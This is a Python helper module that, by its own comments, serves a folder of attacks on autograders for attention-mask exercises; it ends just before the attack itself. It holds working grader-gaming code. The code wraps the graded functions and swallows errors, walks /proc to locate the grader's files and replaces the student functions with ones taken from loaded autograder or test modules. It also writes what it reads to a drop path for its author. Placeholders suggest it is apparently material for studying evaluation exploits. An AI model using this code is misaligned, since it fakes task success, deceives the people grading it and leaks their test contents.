# What the attacks of this folder share: it stands between a wrong solution and the attack.
import os

EXERCISE = ("padding_mask", "causal_mask", "combine_masks", "scaled_dot_product_attention")
MINE = {name: globals()[name] for name in EXERCISE}


def at_each_call(action):
    """Do it now, and again whenever a test calls the solution: some graders load their tests late."""

    def doing(function):
        def answer(*args, **kwargs):
            quietly(action)
            return function(*args, **kwargs)

        return answer

    quietly(action)
    for name in EXERCISE:
        globals()[name] = doing(globals()[name])


def quietly(action):
    try:
        return action()
    except Exception:
        return None


def take(found):
    """Answer with another's functions."""
    for name, function in found.items():
        if name in EXERCISE and callable(function):
            globals()[name] = function


def carry_out(text):
    """Lay what was read where its author can fetch it."""
    name = f"@DROP@/{os.getpid()}-{len(text)}"
    quietly(lambda: open(name, "a").write(str(text)))


def ancestors():
    """Process numbers of the parent, its parent, and so on."""
    found, pid = [], os.getpid()
    while pid > 1:
        with open(f"/proc/{pid}/stat") as file:
            pid = int(file.read().rpartition(")")[2].split()[1])
        if pid > 0:
            found.append(pid)
    return found


def folders():
    """Where a grader's files may lie."""
    import sys

    found = [os.getcwd(), *(path for path in sys.path if path), "@REPOSITORY@"]
    for pid in quietly(ancestors) or []:
        found += [quietly(lambda pid=pid: os.readlink(f"/proc/{pid}/cwd")) or ""]
        words = quietly(lambda pid=pid: open(f"/proc/{pid}/cmdline").read().split("\0")) or []
        found += [os.path.dirname(word) for word in words if word.startswith("/")] + [word for word in words if os.path.isdir(word)]
    found += [parent for path in list(found) for parent in (os.path.dirname(path), os.path.dirname(os.path.dirname(path)))]
    return [path for path in dict.fromkeys(found) if path not in ("", "/", "/usr", "/usr/bin", "/tmp")]


def foreign_modules():
    """Modules of the course: no library's and not this one."""
    import sys

    return [
        module for name, module in list(sys.modules.items()) if name.startswith(("autograder.", "test_")) and module is not None and name != __name__
    ]


# What follows is the attack.
